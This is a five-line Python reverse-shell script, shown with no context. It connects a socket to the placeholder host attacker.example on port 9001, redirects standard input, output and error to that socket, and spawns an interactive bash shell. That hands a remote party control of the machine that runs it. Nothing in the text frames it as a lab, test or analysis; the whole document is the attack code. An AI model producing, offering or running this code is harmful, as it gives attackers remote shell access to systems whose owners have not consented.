import socket,os,pty
s=socket.socket()
s.connect(("attacker.example",9001))
[os.dup2(s.fileno(),fd) for fd in (0,1,2)]
pty.spawn("/bin/bash")
